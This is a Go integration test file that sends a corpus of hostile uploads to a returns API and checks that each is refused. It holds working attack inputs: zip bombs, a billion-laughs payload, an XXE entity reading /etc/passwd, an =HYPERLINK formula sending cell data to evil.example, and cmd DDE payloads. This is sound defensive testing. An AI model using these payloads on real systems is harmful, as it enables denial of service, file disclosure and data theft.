package integration

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"hash/crc32"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/ddat-workforce/returns/infra/kit/localclient"
	"github.com/ddat-workforce/returns/shared/httpapi"
	"github.com/ddat-workforce/returns/shared/testsupport/sample"
	"github.com/ddat-workforce/returns/shared/workforce"
)

// The hostile corpus: files and requests a hostile or careless client sends, generated here,
// each sent through the running stack's gateway. Every answer is a 4xx (or the success a
// well-formed request deserves) with the status, problem code and message the case names,
// and no answer is larger than maxHostileAnswer: error answers are bounded, so that none
// exceeds what Lambda can return.
const maxHostileAnswer = 64 << 10

// hostileEnv is what the cases are generated from: an organisation with a valid return,
// another organisation, and tokens.
type hostileEnv struct {
	h           *harness
	org, other  workforce.Organisation
	values      map[string]string // a valid return of org for q1
	xlsx        []byte            // values written into the template
	submitter   string            // org's submitter
	otherSubmit string            // other's submitter
	noOrg       string            // a submitter token with no organisation claim
}

func (e *hostileEnv) with(change map[string]string) map[string]string {
	v := sampleFor(e.org, q1)
	for k, s := range change {
		v[k] = s
	}
	return v
}

// hostileCase is one request. Path may hold {org} and {other}, replaced by the codes of the
// case's organisations.
type hostileCase struct {
	name        string
	method      string // POST when empty
	path        string // /returns when empty
	token       func(e *hostileEnv) string
	contentType string
	body        func(e *hostileEnv) []byte
	headers     map[string]string
	fresh       bool                // the request may store a return: give it organisations of its own
	before      func(e *hostileEnv) // requests sent first
	status      int                 // the status wanted
	code        string              // the problem's code, or one of its errors' codes
	message     string              // a substring (any case) of the detail, an error's message, or API Gateway's message
	absent      string              // a string the answer must not contain (an echo, a leaked secret)
	check       func(t *testing.T, e *hostileEnv, r localclient.Response)
}

func TestHostileCorpus(t *testing.T) {
	h := newHarness(t)
	base := newHostileEnv(h)
	cases := hostileCases(t, base)
	if len(cases) < 60 {
		t.Fatalf("the corpus has %d cases, want at least 60", len(cases))
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			sub := &harness{t: t, env: h.env, client: h.client, ctx: h.ctx}
			var e *hostileEnv
			if tc.fresh {
				e = newHostileEnv(sub)
			} else {
				copied := *base
				copied.h = sub
				e = &copied
			}
			if tc.before != nil {
				tc.before(e)
			}
			method, path := tc.method, tc.path
			if method == "" {
				method = "POST"
			}
			if path == "" {
				path = "/returns"
			}
			path = strings.NewReplacer("{org}", e.org.Code, "{other}", e.other.Code).Replace(path)
			tok := e.submitter
			if tc.token != nil {
				tok = tc.token(e)
			}
			var body []byte
			if tc.body != nil {
				body = tc.body(e)
			}
			r := e.h.do(method, path, tok, tc.contentType, body, tc.headers)
			checkHostile(t, tc, r)
			if tc.check != nil {
				tc.check(t, e, r)
			}
		})
	}
	// Every case sent for the shared organisation is refused, so none of them stored anything.
	if r := h.do("GET", "/returns/"+base.org.Code+"/2025-26-Q1", base.submitter, "", nil, nil); r.Status != 404 {
		t.Errorf("after the refusals the shared organisation's return answers %d, want 404: %.300s", r.Status, r.Body)
	}
}

func newHostileEnv(h *harness) *hostileEnv {
	h.t.Helper()
	e := &hostileEnv{h: h, org: h.newOrg(workforce.CivilService), other: h.newOrg(workforce.CivilService)}
	e.values = sampleFor(e.org, q1)
	e.submitter = h.token(e.org.Code, "submitter")
	e.otherSubmit = h.token(e.other.Code, "submitter")
	var err error
	if e.noOrg, err = h.client.Token("user-without-org", "", []string{"submitter"}, nil); err != nil {
		h.t.Fatal(err)
	}
	if e.xlsx, err = sample.FillTemplate(h.template(e.submitter, ""), e.values); err != nil {
		h.t.Fatal(err)
	}
	return e
}

// checkHostile holds what every answer must: the status asked for, never a 5xx, bounded,
// and the code and message the case names.
func checkHostile(t *testing.T, tc hostileCase, r localclient.Response) {
	t.Helper()
	if r.Status >= 500 {
		t.Fatalf("status %d: a hostile request must never be a server error: %.500s", r.Status, r.Body)
	}
	if r.Status != tc.status {
		t.Fatalf("status %d, want %d: %.500s", r.Status, tc.status, r.Body)
	}
	if len(r.Body) > maxHostileAnswer {
		t.Errorf("answer is %d bytes, over %d: error answers must be bounded", len(r.Body), maxHostileAnswer)
	}
	if tc.absent != "" && bytes.Contains(r.Body, []byte(tc.absent)) {
		t.Errorf("answer contains %.60q…", tc.absent)
	}
	if tc.status < 400 {
		return
	}
	var texts, codes []string
	switch ct := r.Header.Get("Content-Type"); ct {
	case "application/problem+json":
		var p problemDoc
		if err := json.Unmarshal(r.Body, &p); err != nil {
			t.Fatalf("problem document: %v: %.300s", err, r.Body)
		}
		if p.Status != r.Status || p.Detail == "" {
			t.Errorf("problem status %d detail %q", p.Status, p.Detail)
		}
		codes, texts = append(codes, p.Code), append(texts, p.Detail)
		for _, e := range p.Errors {
			codes, texts = append(codes, e.Code), append(texts, e.Message)
		}
	case "application/json": // API Gateway's own answers: {"message": …}
		var g struct{ Message string }
		if err := json.Unmarshal(r.Body, &g); err != nil || g.Message == "" {
			t.Fatalf("gateway answer %.300s", r.Body)
		}
		texts = append(texts, g.Message)
	default:
		t.Fatalf("content type %q for a %d", ct, r.Status)
	}
	if tc.code != "" && !contains(codes, tc.code) {
		t.Errorf("codes %v, want %s: %.500s", codes, tc.code, r.Body)
	}
	if tc.message != "" && !containsFold(texts, tc.message) {
		t.Errorf("no message mentions %q: %.500s", tc.message, r.Body)
	}
}

func contains(list []string, s string) bool {
	for _, x := range list {
		if x == s {
			return true
		}
	}
	return false
}

func containsFold(texts []string, sub string) bool {
	for _, s := range texts {
		if strings.Contains(strings.ToLower(s), strings.ToLower(sub)) {
			return true
		}
	}
	return false
}

// Bodies.

func jsonOf(v map[string]string) []byte { return sample.JSON(v) }
func csvOf(v map[string]string) []byte  { return sample.CSV(v) }

// jsonWith is a valid JSON return with raw JSON text spliced in as extra members.
func jsonWith(v map[string]string, members string) []byte {
	b := sample.JSON(v)
	return append(append(b[:len(b)-1:len(b)-1], ','), append([]byte(members), '}')...)
}

func gzipped(b []byte) []byte {
	var out bytes.Buffer
	w := gzip.NewWriter(&out)
	_, _ = w.Write(b)
	_ = w.Close()
	return out.Bytes()
}

// Workbooks.

type zipEntry struct {
	name string
	data []byte
}

// rezip copies a ZIP, passing each entry through edit (nil edit keeps it; returning nil
// drops it), then adds extra entries.
func rezip(t *testing.T, src []byte, edit func(name string, data []byte) []byte, extra ...zipEntry) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(src), int64(len(src)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		data := readEntry(t, f)
		if edit != nil {
			if data = edit(f.Name, data); data == nil {
				continue
			}
		}
		w, err := zw.Create(f.Name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write(data)
	}
	for _, x := range extra {
		w, err := zw.Create(x.name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write(x.data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func readEntry(t *testing.T, f *zip.File) []byte {
	t.Helper()
	rc, err := f.Open()
	if err != nil {
		t.Fatal(err)
	}
	defer rc.Close()
	b, err := io.ReadAll(rc)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func zipOf(t *testing.T, entries ...zipEntry) []byte {
	t.Helper()
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, x := range entries {
		w, err := zw.Create(x.name)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write(x.data)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

var (
	sheetOfName = regexp.MustCompile(`<sheet [^>]*name="Return"[^>]*r:id="([^"]+)"`)
	relTarget   = `<Relationship Id="%s" Target="([^"]+)"`
)

// returnSheet is the part that holds the Return sheet, found as a reader would: through the
// workbook and its relationships.
func returnSheet(t *testing.T, xlsx []byte) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	parts := map[string][]byte{}
	for _, f := range zr.File {
		parts[f.Name] = readEntry(t, f)
	}
	m := sheetOfName.FindSubmatch(parts["xl/workbook.xml"])
	if m == nil {
		t.Fatal("template has no Return sheet")
	}
	rel := regexp.MustCompile(fmt.Sprintf(relTarget, m[1])).FindSubmatch(parts["xl/_rels/workbook.xml.rels"])
	if rel == nil {
		t.Fatalf("no relationship %s", m[1])
	}
	return "xl/" + strings.TrimPrefix(string(rel[1]), "/xl/")
}

// editPart changes one part of the workbook.
func editPart(t *testing.T, xlsx []byte, part string, change func([]byte) []byte) []byte {
	t.Helper()
	found := false
	out := rezip(t, xlsx, func(name string, data []byte) []byte {
		if name == part {
			found = true
			return change(data)
		}
		return data
	})
	if !found {
		t.Fatalf("no part %s", part)
	}
	return out
}

// withDoctype puts a document type declaration after the XML declaration and an entity
// reference in place of the first text of the part.
func withDoctype(doctype, ref string) func([]byte) []byte {
	return func(b []byte) []byte {
		s := string(b)
		decl := strings.Index(s, "?>") + 2
		s = s[:decl] + doctype + s[decl:]
		if i := strings.Index(s, "<t>"); i >= 0 {
			s = s[:i+3] + ref + s[i+3:]
		} else if i := strings.Index(s, "<v>"); i >= 0 {
			s = s[:i+3] + ref + s[i+3:]
		}
		return []byte(s)
	}
}

const billionLaughs = `<!DOCTYPE lolz [<!ENTITY lol "lol">` +
	`<!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">` +
	`<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">` +
	`<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">` +
	`<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">` +
	`<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">` +
	`<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">` +
	`<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">` +
	`<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">` +
	`<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>`

const externalEntity = `<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`

// wideRows adds rows with one cell in the last column Excel allows, XFD: tiny on disk, and
// a reader that pads each row to its last column pays for 16,384 cells a row.
func wideRows(n int) func([]byte) []byte {
	return func(b []byte) []byte {
		var rows strings.Builder
		for r := 1000; r < 1000+n; r++ {
			fmt.Fprintf(&rows, `<row r="%d"><c r="XFD%d"><v>1</v></c></row>`, r, r)
		}
		return bytes.Replace(b, []byte("</sheetData>"), []byte(rows.String()+"</sheetData>"), 1)
	}
}

// lyingEntry replaces part with content whose central-directory sizes lie: claimed is
// what the directory says it inflates to, actual is what it does.
func lyingEntry(t *testing.T, xlsx []byte, part string, actual []byte, claimed uint64) []byte {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(xlsx), int64(len(xlsx)))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	zw := zip.NewWriter(&out)
	for _, f := range zr.File {
		if f.Name != part {
			w, _ := zw.Create(f.Name)
			_, _ = w.Write(readEntry(t, f))
			continue
		}
		var comp bytes.Buffer
		fw, _ := flate.NewWriter(&comp, flate.BestCompression)
		_, _ = fw.Write(actual)
		_ = fw.Close()
		w, err := zw.CreateRaw(&zip.FileHeader{Name: part, Method: zip.Deflate, CRC32: crc32.ChecksumIEEE(actual),
			CompressedSize64: uint64(comp.Len()), UncompressedSize64: claimed})
		if err != nil {
			t.Fatal(err)
		}
		_, _ = w.Write(comp.Bytes())
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func replaceIn(old, new string) func([]byte) []byte {
	return func(b []byte) []byte { return bytes.Replace(b, []byte(old), []byte(new), 1) }
}

const (
	ctXLSXMain = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	ctXLSMMain = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
	ctXLSBMain = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
	ctDOCXMain = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
)

var cfbMagic = []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}

func hostileCases(t *testing.T, base *hostileEnv) []hostileCase {
	xlsxType := workforce.ContentTypeXLSX
	admin := func(e *hostileEnv) string { return e.h.admin() }
	leader := func(e *hostileEnv) string { return e.h.token("CO", "leader") }
	noOrg := func(e *hostileEnv) string { return e.noOrg }
	sheet := returnSheet(t, base.xlsx)
	valid := func(e *hostileEnv) []byte { return csvOf(e.values) }
	xlsxEdit := func(part string, change func([]byte) []byte) func(e *hostileEnv) []byte {
		return func(e *hostileEnv) []byte { return editPart(t, e.xlsx, part, change) }
	}
	// Computed once: the large ones take a moment to build.
	bomb := rezip(t, base.xlsx, nil, zipEntry{"xl/media/image1.png", make([]byte, 100<<20)})
	var many []zipEntry
	for i := range 5000 {
		many = append(many, zipEntry{fmt.Sprintf("xl/media/image%d.png", i), []byte{byte(i)}})
	}
	manyParts := rezip(t, base.xlsx, nil, many...)
	var sheetXML []byte
	zr, _ := zip.NewReader(bytes.NewReader(base.xlsx), int64(len(base.xlsx)))
	for _, f := range zr.File {
		if f.Name == sheet {
			sheetXML = readEntry(t, f)
		}
	}
	// The answers lie beyond the declared size, so a reader must inflate past it to reach them.
	padded := bytes.Replace(sheetXML, []byte("<sheetData>"), append(bytes.Repeat([]byte("<!-- -->"), 1<<20), "<sheetData>"...), 1)
	lyingSmall := lyingEntry(t, base.xlsx, sheet, padded, uint64(len(sheetXML)))
	lyingLarge := lyingEntry(t, base.xlsx, sheet, sheetXML, 1<<30)
	innerBomb := zipOf(t, zipEntry{"bomb.bin", make([]byte, 50<<20)})

	unknownRows := func(n int) []byte {
		var b bytes.Buffer
		b.WriteString("field,value\n")
		for i := range n {
			fmt.Fprintf(&b, "unknown_field_%d,1\n", i)
		}
		return b.Bytes()
	}
	unknownMembers := func(n int) string {
		var b strings.Builder
		for i := range n {
			if i > 0 {
				b.WriteByte(',')
			}
			fmt.Fprintf(&b, `"unknown_%d":1`, i)
		}
		return b.String()
	}
	long := strings.Repeat("a", 4000)
	// Idempotency records outlive a run of the tests: subjects and keys are new each run.
	run := base.org.Code
	big := strings.Repeat("a", 3<<20)

	return []hostileCase{
		// Zip bombs and lying archives.
		{name: "zip bomb: 100 MB part at a high ratio", contentType: xlsxType, body: func(*hostileEnv) []byte { return bomb },
			status: 422, code: workforce.EInvalid, message: "image1.png"},
		{name: "zip bomb: 5,000 parts", contentType: xlsxType, body: func(*hostileEnv) []byte { return manyParts },
			status: 422, code: workforce.EInvalid, message: "parts"},
		{name: "lying central directory: the answers lie past its declared size", contentType: xlsxType,
			body: func(*hostileEnv) []byte { return lyingSmall }, status: 422, code: workforce.EInvalid, message: "damaged"},
		{name: "lying central directory: declares 1 GB", contentType: xlsxType,
			body: func(*hostileEnv) []byte { return lyingLarge }, status: 422, code: workforce.EInvalid, message: "too large"},
		{name: "nested zip: the workbook inside a ZIP", contentType: xlsxType,
			body:   func(e *hostileEnv) []byte { return zipOf(t, zipEntry{"return.xlsx", e.xlsx}) },
			status: 415, code: workforce.EUnsupported, message: "not an Excel workbook"},
		{name: "nested zip: a zip bomb inside a ZIP", contentType: xlsxType,
			body:   func(*hostileEnv) []byte { return zipOf(t, zipEntry{"inner.zip", innerBomb}) },
			status: 415, code: workforce.EUnsupported, message: "not an Excel workbook"},
		{name: "empty ZIP", contentType: xlsxType, body: func(*hostileEnv) []byte { return zipOf(t) },
			status: 415, code: workforce.EUnsupported},
		{name: "truncated workbook: half of it", contentType: xlsxType,
			body: func(e *hostileEnv) []byte { return e.xlsx[:len(e.xlsx)/2] }, status: 422, code: workforce.EInvalid, message: "damaged"},
		{name: "truncated workbook: the local header only", contentType: xlsxType,
			body: func(e *hostileEnv) []byte { return e.xlsx[:30] }, status: 422, code: workforce.EInvalid, message: "damaged"},
		{name: "truncated workbook: end of central directory cut", contentType: xlsxType,
			body: func(e *hostileEnv) []byte { return e.xlsx[:len(e.xlsx)-10] }, status: 422, code: workforce.EInvalid, message: "damaged"},
		{name: "corrupt deflate stream in the Return sheet", contentType: xlsxType,
			body: func(e *hostileEnv) []byte {
				b := bytes.Clone(e.xlsx)
				i := bytes.Index(b, []byte(sheet)) + len(sheet) + 200 // inside the first entry's data
				for j := i; j < i+64 && j < len(b); j++ {
					b[j] ^= 0x5a
				}
				return b
			}, status: 422, code: workforce.EInvalid, message: "damaged"},

		// Workbooks the template cannot hold.
		{name: "a cell in column XFD on 400 rows", contentType: xlsxType, body: xlsxEdit(sheet, wideRows(400)),
			status: 422, code: workforce.EInvalid, message: "XFD"},
		{name: "defined name pointing at another sheet", contentType: xlsxType,
			body: xlsxEdit("xl/workbook.xml", replaceIn(`<definedName name="org">Return!$D$9</definedName>`,
				`<definedName name="org">Lists!$A$2</definedName>`)),
			status: 422, code: "bad_defined_name", message: "Lists"},

		// Encrypted, macro and binary workbooks; other OOXML.
		{name: "encrypted workbook (CFB container)", contentType: xlsxType,
			body:   func(*hostileEnv) []byte { return append(bytes.Clone(cfbMagic), make([]byte, 4096)...) },
			status: 415, code: workforce.EUnsupported, message: "encrypted"},
		{name: "xlsm content type", contentType: xlsxType, body: xlsxEdit("[Content_Types].xml", replaceIn(ctXLSXMain, ctXLSMMain)),
			status: 415, code: workforce.EUnsupported, message: "macro"},
		{name: "vbaProject.bin inside an xlsx", contentType: xlsxType,
			body: func(e *hostileEnv) []byte {
				return rezip(t, e.xlsx, nil, zipEntry{"xl/vbaProject.bin", []byte("Attribute VB_Name")})
			},
			status: 415, code: workforce.EUnsupported, message: "macro"},
		{name: "xlsb content type", contentType: xlsxType, body: xlsxEdit("[Content_Types].xml", replaceIn(ctXLSXMain, ctXLSBMain)),
			status: 415, code: workforce.EUnsupported, message: "binary"},
		{name: "a Word document", contentType: xlsxType, body: xlsxEdit("[Content_Types].xml", replaceIn(ctXLSXMain, ctDOCXMain)),
			status: 415, code: workforce.EUnsupported, message: "not an Excel workbook"},

		// XML entity tricks.
		{name: "billion laughs in the Return sheet", contentType: xlsxType, body: xlsxEdit(sheet, withDoctype(billionLaughs, "&lol9;")),
			status: 422, code: workforce.EInvalid},
		{name: "billion laughs in sharedStrings", contentType: xlsxType,
			body: xlsxEdit("xl/sharedStrings.xml", withDoctype(billionLaughs, "&lol9;")), status: 422, code: workforce.EInvalid},
		{name: "external entity in sharedStrings", contentType: xlsxType,
			body:   xlsxEdit("xl/sharedStrings.xml", withDoctype(externalEntity, "&xxe;")),
			status: 422, code: workforce.EInvalid, absent: "root:"},
		{name: "external entity in the workbook part", contentType: xlsxType,
			body: xlsxEdit("xl/workbook.xml", func(b []byte) []byte {
				b = withDoctype(externalEntity, "")(b)
				return replaceIn(`<definedName name="org">Return!$D$9</definedName>`, `<definedName name="org">&xxe;</definedName>`)(b)
			}),
			status: 422, code: workforce.EInvalid, absent: "root:"},

		// Content types and encodings.
		{name: "empty JSON body", contentType: httpapi.ContentTypeJSON, status: 400, code: workforce.EBadRequest, message: "no body"},
		{name: "empty workbook body", contentType: xlsxType, status: 400, code: workforce.EBadRequest, message: "no body"},
		{name: "no content type", body: valid, status: 415, code: workforce.EUnsupported, message: "Content-Type"},
		{name: "PDF", contentType: "application/pdf", body: func(*hostileEnv) []byte { return []byte("%PDF-1.7\n%\xe2\xe3") },
			status: 415, code: workforce.EUnsupported, message: "Content-Type"},
		{name: "multipart form upload", contentType: "multipart/form-data; boundary=x",
			body: func(e *hostileEnv) []byte {
				return append([]byte("--x\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n"), e.xlsx...)
			},
			status: 415, code: workforce.EUnsupported},
		{name: "unparseable content type", contentType: "text/csv;;;==", body: valid, status: 415, code: workforce.EUnsupported},
		{name: "legacy Excel content type", contentType: "application/vnd.ms-excel", body: func(e *hostileEnv) []byte { return e.xlsx },
			status: 415, code: workforce.EUnsupported},
		{name: "workbook sent as CSV", contentType: "text/csv", body: func(e *hostileEnv) []byte { return e.xlsx },
			status: 422, code: "invalid_encoding"},
		{name: "JSON sent as a workbook", contentType: xlsxType, body: func(e *hostileEnv) []byte { return jsonOf(e.values) },
			status: 415, code: workforce.EUnsupported, message: "not an Excel workbook"},
		{name: "CSV sent as JSON", contentType: httpapi.ContentTypeJSON, body: valid, status: 422, code: "bad_json"},
		{name: "gzip Content-Encoding", contentType: "text/csv", body: func(e *hostileEnv) []byte { return gzipped(csvOf(e.values)) },
			headers: map[string]string{"Content-Encoding": "gzip"}, status: 415, code: workforce.EUnsupported, message: "encod"},
		{name: "br Content-Encoding on JSON", contentType: httpapi.ContentTypeJSON, body: func(e *hostileEnv) []byte { return jsonOf(e.values) },
			headers: map[string]string{"Content-Encoding": "br"}, status: 415, code: workforce.EUnsupported, message: "encod"},
		{name: "4,000-character Content-Type parameter on a valid return", fresh: true,
			contentType: "text/csv; x=" + long, body: valid, status: 201,
			check: func(t *testing.T, e *hostileEnv, r localclient.Response) {
				if v := e.h.view(e.submitter, "/returns/"+e.org.Code+"/2025-26-Q1"); v.Version != 1 {
					t.Errorf("stored as version %d", v.Version)
				}
			}},
		{name: "4,000-character Content-Type parameter is not echoed whole", contentType: "application/pdf; x=" + long, body: valid,
			status: 415, code: workforce.EUnsupported, absent: long[:1000]},

		// Bodies just over each limit.
		{name: "just over the service's 4 MiB upload limit", contentType: "text/csv",
			body:   func(*hostileEnv) []byte { return bytes.Repeat([]byte("x"), 4<<20+1) },
			status: 413, code: workforce.ETooLarge, message: "4.0 MB"},
		{name: "exactly the upload limit is read, and refused for what it is", contentType: "text/csv",
			body:   func(*hostileEnv) []byte { return bytes.Repeat([]byte("x"), 4<<20) },
			status: 422, code: "value_too_long", message: "too long"},
		{name: "text just over Lambda's 6 MiB event", contentType: "text/csv",
			body:   func(*hostileEnv) []byte { return bytes.Repeat([]byte("x"), 6<<20) },
			status: 413, message: "Request Entity Too Large"},
		{name: "4.8 MB workbook is 6.4 MB once base64-encoded", contentType: xlsxType,
			body:   func(*hostileEnv) []byte { return make([]byte, 4_800_000) },
			status: 413, message: "Request Entity Too Large"},
		{name: "just over API Gateway's 10 MB", contentType: "text/csv",
			body:   func(*hostileEnv) []byte { return bytes.Repeat([]byte("x"), 10<<20+1) },
			status: 413, message: "Request Entity Too Large"},

		// CSV.
		{name: "CSV with 100,000 unknown fields", contentType: "text/csv", body: func(*hostileEnv) []byte { return unknownRows(100_000) },
			status: 422, code: "too_many_rows", message: "more than 200 rows"},
		{name: "bulk CSV with 100,000 unknown columns", token: admin, path: "/returns/bulk", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				var b bytes.Buffer
				for i := range 100_000 {
					fmt.Fprintf(&b, "col_%d,", i)
				}
				b.WriteString("org\n")
				b.WriteString(strings.Repeat("1,", 100_000) + e.org.Code + "\n")
				return b.Bytes()
			}, status: 422, code: "too_many_columns", message: "more than 100 columns"},
		{name: "3 MB field name", contentType: "text/csv", body: func(*hostileEnv) []byte { return []byte("field,value\n" + big + ",1\n") },
			status: 422, code: "value_too_long", message: "field name on line 2", absent: big[:100_000]},
		{name: "1 MB of notes on one line", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				return csvOf(e.with(map[string]string{"notes": strings.Repeat("n", 1<<20)}))
			},
			status: 422, code: "value_too_long", message: "2,000 characters", absent: strings.Repeat("n", 10_000)},
		{name: "200,000 columns on one line", contentType: "text/csv",
			body:   func(*hostileEnv) []byte { return []byte("field,value\n" + strings.Repeat("a,", 200_000) + "\n") },
			status: 422, code: "too_many_columns", message: "more than 100 columns"},
		{name: "unterminated quote", contentType: "text/csv",
			body:   func(e *hostileEnv) []byte { return append(csvOf(e.values), "notes,\"never closed\n"...) },
			status: 422, code: "bad_csv"},
		{name: "UTF-8 BOM is allowed", fresh: true, contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return append([]byte("\xef\xbb\xbf"), csvOf(e.values)...) }, status: 201},
		{name: "two UTF-8 BOMs", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return append([]byte("\xef\xbb\xbf\xef\xbb\xbf"), csvOf(e.values)...) }, status: 422, code: "bad_header"},
		{name: "UTF-16LE with BOM", contentType: "text/csv", body: func(e *hostileEnv) []byte { return utf16LE(csvOf(e.values)) },
			status: 422, code: "invalid_encoding", message: "UTF-8"},
		{name: "UTF-16BE with BOM", contentType: "text/csv", body: func(e *hostileEnv) []byte { return utf16BE(csvOf(e.values)) },
			status: 422, code: "invalid_encoding", message: "UTF-8"},
		{name: "UTF-32LE BOM", contentType: "text/csv", body: func(e *hostileEnv) []byte { return append([]byte{0xFF, 0xFE, 0, 0}, csvOf(e.values)...) },
			status: 422, code: "invalid_encoding"},
		{name: "overlong UTF-8 in notes", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "a\xc0\xafb"})) }, status: 422, code: "invalid_encoding"},
		{name: "UTF-8-encoded surrogate in a name", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"contact_name": "x\xed\xa0\x80"})) }, status: 422, code: "invalid_encoding"},
		{name: "Latin-1 in JSON", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonWith(e.values, `"notes":"caf`+"\xe9"+`"`) }, status: 422, code: "invalid_encoding"},

		// Control characters and formula-like text.
		{name: "NUL in notes", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "before\x00after"})) }, status: 422, code: "control_character", message: "NUL"},
		{name: "ESC in contact_name", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"contact_name": "\x1b[2JAda"})) }, status: 422, code: "control_character", message: "escape"},
		{name: "=HYPERLINK in notes", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				return csvOf(e.with(map[string]string{"notes": `=HYPERLINK("https://evil.example/?d="&A1,"Click")`}))
			}, status: 422, code: "formula_like", message: "formula"},
		{name: "@ formula in contact_name", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte {
				return jsonOf(e.with(map[string]string{"contact_name": "@SUM(1+1)*cmd|' /C calc'!A0"}))
			},
			status: 422, code: "formula_like", message: "formula"},
		{name: "+ formula in notes", contentType: "text/csv",
			body:   func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"notes": "+1+cmd|' /C calc'!A0"})) },
			status: 422, code: "formula_like", message: "formula"},
		{name: "- formula in contact_name", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				return csvOf(e.with(map[string]string{"contact_name": "-2+3+cmd|' /C calc'!A0"}))
			},
			status: 422, code: "formula_like", message: "formula"},

		// Counts.
		{name: "70000.0000000001 as a count", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "70000.0000000001"})) }, status: 422, code: "not_whole_number"},
		{name: "7.3144e4 as a count", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "scientific_notation",
			message: "as 73144"},
		{name: "70000.0, as a spreadsheet writes a whole number, is stored as 70000", fresh: true, contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"headcount": "70000.0"})) }, status: 201,
			check: func(t *testing.T, e *hostileEnv, r localclient.Response) {
				if v := e.h.view(e.submitter, "/returns/"+e.org.Code+"/2025-26-Q1"); fmt.Sprint(v.Values["headcount"]) != "70000" {
					t.Errorf("headcount stored as %v, want 70000", v.Values["headcount"])
				}
			}},
		{name: "7.3144e4 as a JSON number", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"headcount": "7.3144e4"})) }, status: 422, code: "scientific_notation"},
		{name: "hexadecimal count", contentType: "text/csv",
			body: func(e *hostileEnv) []byte { return csvOf(e.with(map[string]string{"ddat_entrants_total": "0x1F"})) }, status: 422, code: "not_a_number"},
		{name: "count beyond int64", contentType: "text/csv",
			body: func(e *hostileEnv) []byte {
				return csvOf(e.with(map[string]string{"headcount": "99999999999999999999999999"}))
			}, status: 422, code: "too_large"},
		{name: "1e999 as a JSON number", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonOf(e.with(map[string]string{"headcount": "1e999"})) }, status: 422},
		{name: "a number of 100,000 digits", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte {
				return jsonOf(e.with(map[string]string{"headcount": strings.Repeat("9", 100_000)}))
			},
			status: 422, absent: strings.Repeat("9", 10_000)},
		{name: "NaN in JSON", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte { return jsonWith(e.with(nil), `"fte":NaN`) }, status: 422, code: "bad_json"},

		// JSON structure.
		{name: "JSON nesting bomb in a value", contentType: httpapi.ContentTypeJSON,
			body: func(e *hostileEnv) []byte {
				return jsonWith(e.values, `"notes":`+strings.Repeat("[", 100_000)+strings.Repeat("]", 100_000))
			}, status: 422, code: "too_deep", message: "nested more than"},
